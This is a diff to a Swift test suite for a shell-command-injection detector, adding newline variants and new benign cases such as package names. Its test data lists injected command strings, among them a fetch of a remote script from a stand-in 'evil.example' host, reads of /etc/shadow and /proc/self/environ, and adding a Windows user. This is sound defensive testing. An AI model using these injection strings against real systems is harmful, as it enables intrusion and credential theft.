@@ -63,7 +63,7 @@ struct ShellDetectorTests {
         "a&ipconfig/all", "x|cmd/c whoami", "b&bcdedit/v x",
         ";flock -x /tmp/l whoami", ";iwr http://evil.example/a.ps1", "|COMM /etc/passwd /etc/group", ";date --file /etc/shadow",
         "; top -b", "cpulimit -l 50 -f id", "env --version", "BusyBox --list", "npm install evil-pkg", "gem install x",
-        "cat /var/log/auth.log", "tail /proc/self/environ", "shutdown\n", "chef-client", "bin/visudo",
+        "cat /var/log/auth.log", "tail /proc/self/environ", "shutdown\n", "chef-client\n", "bin/visudo",
         ";df -h", "|SHA256SUM /etc/shadow", "a;sleep 5", "x&&sleep 10", "&net user x p /add", "; gci env:",
         "& wmic process list", "| reg query HKLM\\Software", ";systeminfo", "1|ver", "x|id", "a|id|base64",
     ])
@@ -97,7 +97,7 @@ struct ShellDetectorTests {
         "data:image/png;base64,iVBORw0KGgo=", "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "user@example.com",
         "# Heading\n\nSome *markdown* with `code` and [a link](https://example.com).",
         "name|id|email", "date|sort|users", "the best; top 10", "net income", "type 2 diabetes", "sleep 8 hours",
-        "free shipping; sort by price",
+        "free shipping; sort by price", "php-guide.pdf", "docker-compose", "node-fetch",
     ])
     func benign(_ text: String) {
         #expect(passesEverywhere(text).isEmpty, "\(text) -> \(rules(inValue: text)) blocked in \(passesEverywhere(text))")
@@ -107,6 +107,7 @@ struct ShellDetectorTests {
     func loneNames() {
         #expect(rules(inValue: "lastlog") == ["rce.command-value"])
         #expect(rules(inValue: "lastlog -u root").contains("rce.command"))
-        #expect(rules(inValue: "ansible-console").contains("rce.command"))
+        #expect(rules(inValue: "ansible-console\n").contains("rce.command"))
+        #expect(!blocksJSON("python-dateutil", key: "package"))
     }
 }
